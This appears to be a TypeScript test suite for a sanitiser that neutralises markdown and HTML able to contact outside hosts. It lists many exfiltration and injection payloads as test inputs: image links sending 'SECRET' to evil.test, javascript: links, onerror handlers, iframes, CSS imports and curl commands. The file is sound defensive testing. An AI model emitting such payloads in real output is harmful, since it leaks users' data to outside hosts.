import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { growth, linear } from '../../../scripts/testing/work-time.ts';
import { defuseOutbound } from './defuse.ts';
import { piece } from './testing/pieces.ts';
import { reachedBy, renderers } from './testing/reached.ts';
import { rounds } from '../../../scripts/testing/extent.ts';

const friend = 'ok.example.com';
const allows = (url: string): boolean => new URL(url).hostname === friend;
const markdown = (text: string): string => defuseOutbound(text, { allows, media: 'markdown' }).text;
const page = (text: string): string => defuseOutbound(text, { allows, media: 'html' }).text;

function reachedIn(text: string): readonly string[] {
  return [...new Set(Object.values(renderers).flatMap((render) => reachedBy(render(text))))].filter(
    (host) => host !== friend,
  );
}

describe('markdown that reaches a host', () => {
  test.each([
    ['an image (CVE-2025-32711, CVE-2025-53773)', '![a](https://evil.test/x?d=SECRET)'],
    ['with a title', '![a](https://evil.test/x "t")'],
    ['in angle brackets', '![a](<https://evil.test/x y>)'],
    ['with brackets in its text', '![a [b] c](https://evil.test/x)'],
    ['with escaped brackets', '![a \\] c](https://evil.test/x)'],
    ['with parentheses', '![a](https://evil.test/x(1)y)'],
    ['over lines', '![a](\nhttps://evil.test/x\n"t")'],
    ['in a quote, over lines', '> ![a](\n> //evil.test/x)'],
    ['without a scheme', '![a](//evil.test/x)'],
    ['with backslashes', '![a](\\\\\\\\evil.test/x)'],
    ['with a slash and a backslash', '![a](/\\\\evil.test/x)'],
    ['with references', '![a](&#104;ttps://evil.test/x)'],
    ['with named references', '![a](https&colon;&sol;&sol;evil.test/x)'],
    ['scheme-relative by references', '![a](&sol;&sol;evil.test/x)'],
    ['with a percent-encoded host', '![a](https://%65vil.test/x)'],
    ['with another alphabet', '![a](https://ｅvil.test/x)'],
    ['with a name before the host', '![a](https://ok.example.com@evil.test/x)'],
    ['with a host that goes on', '![a](https://ok.example.com.evil.test/x)'],
    ['with letters that cannot be in a host', '![a](https://ok.example.com"x.evil.test/)'],
    ['by reference', '![a][r]\n\n[r]: https://evil.test/x'],
    ['by reference, on the next line', '![a][r]\n\n[r]:\n  https://evil.test/x\n  "t"'],
    ['by reference, in a quote', '![a][r]\n\n> [r]:\n> //evil.test/x'],
    ['by reference, with references', '![a][r]\n\n[r]: &sol;/evil.test/x'],
    ['by reference with a code span in its label', '[`a`][`a`]\n\n[`a`]: https://evil.test/x'],
    ['by a label over a backquote', '![x][a `]\n\n[a `]: https://evil.test/`x'],
    ['a link', '[a](https://evil.test/x)'],
    ['a link in a link', '[![a](https://evil.test/i)](https://evil.test/l)'],
    ['a script', '[a](javascript:alert(1))'],
    ['a script with a line feed', '[a](java&NewLine;script:alert%281%29)'],
    ['a script by a reference', '[a](javascript&#x3a;alert%281%29)'],
    ['an autolink', '<https://evil.test/x>'],
    ['an autolink that runs', '<javascript:alert(1)>'],
    ['a bare URL', 'see https://evil.test/x.'],
    ['a bare URL in brackets', '(https://evil.test/x)'],
    ['a bare URL in bold', '**https://evil.test/x**'],
    ['a bare URL after letters', 'xhttps://evil.test/x'],
    ['a bare URL of ftp', 'ftp://evil.test/x'],
    ['www', 'www.evil.test/x'],
    ['www in bold', '**www.evil.test/x**'],
    ['a bare URL with a host that goes on', 'https://ok.example.com)x.evil.test/'],
    ['a bare URL that becomes a name before a host', 'https://ok.example.com]:@evil.test/'],
    ['a bare URL that swallows a quote', 'https://evil.test/```<svg>```'],
    ['a bare URL without a scheme', '//evil.test/x'],
    ['a bare URL with a backquote', 'https://ok.example.com`.evil.test/`'],
    ['a bare URL by references', 'https&#58;//evil.test/x'],
    ['a bare URL by backslashes', 'https\\://evil.test/x'],
    ['an SVG in data', '![a](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['a page in data', '[a](data:text/html,x)'],
    ['HTML: an image', '<img src="https://evil.test/x">'],
    ['HTML: an image over lines', '<img\nsrc=//evil.test/x\n>'],
    ['HTML: an image with slashes', '<img/src=//evil.test/x>'],
    ['HTML: an image set', '<img srcset="https://evil.test/x 2x">'],
    ['HTML: a picture', '<picture><source srcset="//evil.test/x"><img></picture>'],
    ['HTML: a link', '<a href="https://evil.test/x">a</a>'],
    ['HTML: pings', '<a href="https://ok.example.com/" ping="https://evil.test/">a</a>'],
    ['HTML: a style', '<p style="background:url(//evil.test/x)">a</p>'],
    ['HTML: a style sheet', '<style>@import "//evil.test/x";</style>'],
    ['HTML: a script', '<script src="//evil.test/x"></script>'],
    ['HTML: an event', '<img src=x onerror=alert(1)>'],
    ['HTML: a frame', '<iframe src="//evil.test/"></iframe>'],
    ['HTML: SVG', '<svg><image href="//evil.test/x"/></svg>'],
    ['HTML: a video', '<video poster="//evil.test/x" src="//evil.test/y"></video>'],
    ['HTML: a form', '<form action="//evil.test/"><button>a</button></form>'],
    ['HTML: refresh', '<meta http-equiv=refresh content="0;url=//evil.test/">'],
    ['HTML: another base', '<base href="//evil.test/">\n\n[a](x)'],
    ['HTML: a background', '<table background="//evil.test/x"><tr><td>a</table>'],
    ['HTML behind a quote in code', '<div>\n`<img src="//evil.test/x">`\n</div>'],
    ['HTML behind a fence', '<div>\n```\n<img src="//evil.test/x">\n```\n</div>'],
    ['HTML behind a quote in a tag', '<a title="`"> ![a](https://evil.test/x) `'],
    ['HTML: a block that ignores blank lines', '<pre>\n\n```\n<img src="//evil.test/x">\n```\n</pre>'],
    ['HTML: a comment', '<!-- `\n\n--> ![a](https://evil.test/x) `'],
    ['a quote that the paragraph ends', '`\n\n![a](https://evil.test/x) `'],
    ['a quote that is escaped', '\\`![a](https://evil.test/x)`'],
    ['a quote of another length', '``![a](https://evil.test/x)`'],
    ['quotes over cells', '| a | b |\n|---|---|\n| ` | ![a](https://evil.test/x) ` |'],
    ['a fence in a list that ends', '- ```\n  code\n  ```\n![a](https://evil.test/x)\n```\n```'],
    ['a fence that its list ends', '- a\n\n  ```\n![a](https://evil.test/x)\n  ```'],
    ['a fence in a quote that ends', '> ```\n![a](https://evil.test/x)\n```\n```'],
    ['a fence that never ends', '```\n![a](https://evil.test/x)'],
    ['a fence with a quote in its info', '``` a`b\n![a](https://evil.test/x)\n```'],
    ['a fence after a tab', '\t```\n![a](https://evil.test/x)\n```\n```'],
    ['a fence closed by a longer one', '```\ncode\n`````\n![a](https://evil.test/x)\n```'],
    ['a fence of another kind', '~~~\n```\n~~~\n![a](https://evil.test/x)\n```\n```'],
    ['four blanks', 'text\n    ```\n![a](https://evil.test/x)\n    ```'],
    ['a return as line end', '```\rx\r```\r![a](https://evil.test/x)\r'],
  ])('%s', (_, text) => {
    expect(reachedIn(markdown(text))).toEqual([]);
    expect(defuseOutbound(text, { allows, media: 'markdown' }).findings.length).toBeGreaterThan(0);
  });

  test('most of these reach a host without the filter', () => {
    const texts = [
      '![a](https://evil.test/x?d=SECRET)',
      '![a][r]\n\n> [r]:\n> //evil.test/x',
      'https&#58;//evil.test/x www.evil.test',
      '<img src=//evil.test/x>',
      '- ```\n  code\n  ```\n![a](https://evil.test/x)\n```\n```',
      '`\n\n![a](https://evil.test/x) `',
    ];
    for (const text of texts) expect(reachedIn(text), text).not.toEqual([]);
  });
});

describe('the remaining text', () => {
  test.each([
    ['![a chart](https://evil.test/x?d=1)', '(image removed: a chart, https[:]//evil[.]test/x?d=1)'],
    ['![](https://evil.test/x)', '(image removed: https[:]//evil[.]test/x)'],
    ['[text](https://evil.test/x "t") more', 'text (https[:]//evil[.]test/x) more'],
    ['see https://evil.test/x.', 'see https[:]//evil[.]test/x.'],
    ['<https://evil.test/x>', 'https[:]//evil[.]test/x'],
    ['www.evil.test/x', 'www[.]evil[.]test/x'],
    ['www\\.evil.test', 'www[.]evil.test'],
    ['[r]: https://evil.test/x', '[r]\\: https[:]//evil[.]test/x'],
    ['<img src="https://evil.test/x" alt="a">', '(image removed: https[:]//evil[.]test/x)'],
    ['a <script>x</script>', 'a &lt;script>x&lt;/script>'],
    ['[a](javascript:alert(1))', 'a (javascript[:]alert%281%29)'],
    ['$\\href{https://evil.test/}{x}$', '$\\ href{https[:]//evil[.]test/%7D%7Bx%7D%24'],
    ['[a](xmpp:a@b.example)', 'a (xmpp[:]a%40b[.]example)'],
  ])('%s', (text, expected) => {
    expect(markdown(text)).toBe(expected);
  });

  test('findings have a kind and a place', () => {
    expect(defuseOutbound('ab ![c](https://evil.test/x) d', { allows, media: 'markdown' }).findings).toEqual([
      { kind: 'outbound', start: 3, end: 28, what: 'image evil[.]test' },
    ]);
  });

  test('findings are bounded, with a count of the rest', () => {
    const { findings, omitted } = defuseOutbound('<x> '.repeat(1500), { allows, media: 'markdown' });
    expect([findings.length, omitted]).toEqual([1000, 500]);
  });
});

describe('unchanged texts, as the same string', () => {
  test.each([
    'Plain words, 3 < 4, a && b, x[0](y), `code` and *emphasis*.',
    '[a](https://ok.example.com/x?a=1&b=2#c) ![b](https://ok.example.com/i.png "t") <https://ok.example.com/>',
    'https://ok.example.com/a_b, (https://ok.example.com), **https://ok.example.com/x**',
    '[a](docs/x.md) [b](#part) [c](../y.md#z) [d](/root) [e](dätei.md)',
    '[r]: https://ok.example.com/x "t"\n[s]: ./x.md\n\n[a][r]',
    '```js\nfetch("https://evil.test/x");\n```\n',
    'Use:\n\n1. first\n\n   ```sh\n   curl https://evil.test/x\n   ```\n\n2. second',
    '- a\n  ```\n  https://evil.test\n  ```\n',
    'Run `curl https://evil.test/x` or ``a``.',
    '~~~html\n<img src="https://evil.test/x">\n~~~',
    '````md\n```\n![a](https://evil.test/x)\n```\n````',
    '```mermaid\ngraph TD\n  A[Start] --> B{Done?}\n  B -->|yes| C\n```',
    '![p](data:image/png;base64,iVBORw0KGgo=)',
    '<b>bold</b> <br> <details>\n<summary>more</summary>\n\ntext\n\n</details>',
    '| a | b |\n|---|---|\n| `x` | 1 |',
    'a@b.example <a@b.example> [write](mailto:a@b.example)',
    '&copy; &amp; &lt; &nbsp; R&D AT&T',
    '- [x] done\n- [ ] todo',
    'Das kostet 5 €, 日本語 and مرحبا',
  ])('%j', (text) => {
    expect(defuseOutbound(text, { allows, media: 'markdown' })).toEqual({ text, findings: [] });
  });

  test('an allowed autolink that would be a tag with attributes loses its brackets', () => {
    expect(reachedIn(markdown('<div>\n<https://ok.example.com/onclick=x>\n</div>'))).toEqual([]);
    expect(markdown('<https://ok.example.com/?a=1>')).toBe('https://ok.example.com/?a=1 ');
  });

  test('an allowed URL in an unusual spelling is rewritten so that all renderers agree', () => {
    expect(markdown('[a](<https://ok.example.com/a b>)')).toBe('[a](https://ok.example.com/a%20b)');
    expect(markdown('[a](https://ok.example.com/x(1))')).toBe('[a](https://ok.example.com/x%281%29)');
    expect(markdown('[r]: <https://ok.example.com/a b>')).toBe('[r]: https://ok.example.com/a%20b');
    expect(markdown('<a href="https://ok.example.com/?a=1&b=2">x</a>')).toBe(
      '<a href="https://ok.example.com/?a=1&#38;b=2">x</a>',
    );
  });
});

describe('drawings', () => {
  test.each([
    'graph TD\nA-->B\nclick A href "https://evil.test/x"',
    'graph TD\nA["<img src=//evil.test/x>"]',
    'graph TD\nA@{ img: "https://evil.test/x" }',
    '%%{init: {"themeCSS": "@import url(//evil.test)"}}%%\ngraph TD',
    'graph TD\nstyle A fill:url(x)',
    'graph TD\nA["&lt;img"]',
    'graph TD\nA["#lt;img"]',
    'graph TD\nA["\\u003cimg"]',
  ])('with %j are shown as code', (body) => {
    expect(markdown(`\`\`\`mermaid\n${body}\n\`\`\``)).toBe(`\`\`\`text\n${body}\n\`\`\``);
    expect(markdown(`~~~ {.mermaid}\n${body}\n~~~`)).toBe(`~~~text\n${body}\n~~~`);
    expect(markdown(`\`\`\`&#109;ermaid\n${body}\n\`\`\``)).toBe(`\`\`\`text\n${body}\n\`\`\``);
  });

  test('formulas are shown as code too', () => {
    expect(markdown('```math\n\\href{https://evil.test}{x}\n```')).toBe('```text\n\\href{https://evil.test}{x}\n```');
    expect(markdown('$`\\href{//evil.test}{x}`$')).toContain('\\ href');
  });
});

describe('pages', () => {
  test.each([
    ['<p>a <b>b</b></p>', '<p>a <b>b</b></p>'],
    ['<p class=x onclick="y">a', '<p>a'],
    ['<img src="//evil.test/x" alt="z">', '(image removed: https[:]//evil[.]test/x)'],
    ['<a href="https://evil.test/x">t</a>', '(https[:]//evil[.]test/x) <a>t</a>'],
    ['<a href="https://ok.example.com/x">t</a>', '<a href="https://ok.example.com/x">t</a>'],
    ['<script>alert(1)</script>a', '(script removed)a'],
    ['a<script>never closed', 'a(script removed)'],
    ['<svg><image href="//evil.test/"/></svg>a', '(svg removed)a'],
    ['a<!-- <img src=//evil.test> -->b', 'ab'],
    ['a<!--><img src=x>', 'a<img src="x">'],
    ['<style>@import url(//evil.test)</style>a', '(style removed)a'],
    ['a < b <3', 'a &lt; b &lt;3'],
    ['<img src="x', '&lt;img src="x'],
    ['<noscript><p title="</noscript><img src=x onerror=y>">', '(noscript removed)<img src="x">">'],
    ['<embed src="//evil.test/">a', 'a'],
  ])('%s', (text, expected) => {
    expect(page(text)).toBe(expected);
  });
});

describe('laws', () => {
  const message = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));

  test('no renderer reaches a host, from any combination of pieces', () => {
    fc.assert(
      fc.property(message, (text) => {
        expect(reachedIn(markdown(text))).toEqual([]);
      }),
      { numRuns: rounds(2000) },
    );
  });

  test('nor does a browser with a page', () => {
    fc.assert(
      fc.property(message, (text) => {
        expect(reachedBy(page(text)).filter((host) => host !== friend)).toEqual([]);
      }),
      { numRuns: rounds(2000) },
    );
  });

  test('is idempotent', () => {
    fc.assert(
      fc.property(message, fc.constantFrom('markdown' as const, 'html' as const), (text, media) => {
        const once = defuseOutbound(text, { allows, media }).text;
        expect(defuseOutbound(once, { allows, media }).text).toBe(once);
      }),
      // Of one seed: safety is the law above, this is comfort for texts that pass here twice.
      { numRuns: rounds(1500), seed: 5 },
    );
  });

  test('text without any of its characters stays unchanged', () => {
    fc.assert(
      fc.property(
        fc
          .array(fc.constantFrom('word', ' ', '\n', '.', ',', '(', ')', '*', '- ', '# ', 'é', '1. '), { maxLength: 40 })
          .map((words) => words.join('')),
        (text) => {
          expect(markdown(text)).toBe(text);
        },
      ),
    );
  });

  test.each([
    '[',
    '](',
    '![',
    '<',
    '<a ',
    '<a x="',
    '`',
    '&',
    '&#58;',
    'https://',
    '//',
    'www.',
    '\n```\n',
    '> ',
    '<!--',
    '<script>',
    '](<',
    ']:',
    '`a`\n\n',
    'a',
    ':',
    '](((',
    '\\',
  ])('a quarter of a megabyte of %j takes linear time', async (unit) => {
    for (const media of ['markdown', 'html'] as const) {
      expect(
        await growth((size) => defuseOutbound(unit.repeat(Math.ceil(size / unit.length)), { allows, media }), 250_000),
      ).toBeLessThan(linear);
    }
  });

  test.each([
    ['slashes beside a code span', '`a`', '/'],
    ['blanks behind a destination', '[a](https://evil.test', ' '],
  ])('%s take linear time', async (_name, before, unit) => {
    const work = (size: number): unknown => defuseOutbound(before + unit.repeat(size), { allows, media: 'markdown' });
    expect(await growth(work, 1 << 14)).toBeLessThan(linear);
  });
});
